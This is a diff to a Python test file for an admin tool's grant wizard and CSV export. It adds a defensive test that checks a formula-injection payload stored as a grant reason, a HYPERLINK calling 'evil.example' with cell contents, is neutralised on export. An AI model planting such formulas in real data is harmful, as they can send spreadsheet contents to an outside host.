@@ -1,7 +1,9 @@
 """Task 5: the grant wizard (right, period prefilled at the maximum, reason, confirm), extend
 (too long: say so and offer to start today; future start: pending warning, R6), revoke with a
 reason, and the grant search with CSV export."""
+import csv
 import html
+import io
 from datetime import timedelta
 
 from admin_support import post, sign_in
@@ -137,3 +139,15 @@ def test_search_by_state_and_reference_date_and_csv(client):
     lines = exported.get_data(as_text=True).splitlines()
     assert lines[0].startswith("id,rrn,name,government,right")
     assert any(BART in line for line in lines) and all("44086" not in line for line in lines)
+
+
+def test_the_csv_export_neutralises_a_reason_that_is_a_formula(client, db):
+    """A reason typed as `=HYPERLINK(…)` opens in a spreadsheet as text, not as a live link."""
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"klik")'
+    grants.add(db, actor(db, AN), CHRIS, MERELBEKE, "demo-app-reader", reason=formula)
+    db.commit()
+    sign_in(client, AN, MERELBEKE)
+    exported = client.get("/admin/grants.csv?state=active").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    reasons = [r["reason"] for r in rows if r["rrn"] == CHRIS and r["right"] == "demo-app-reader"]
+    assert reasons == ["'" + formula]
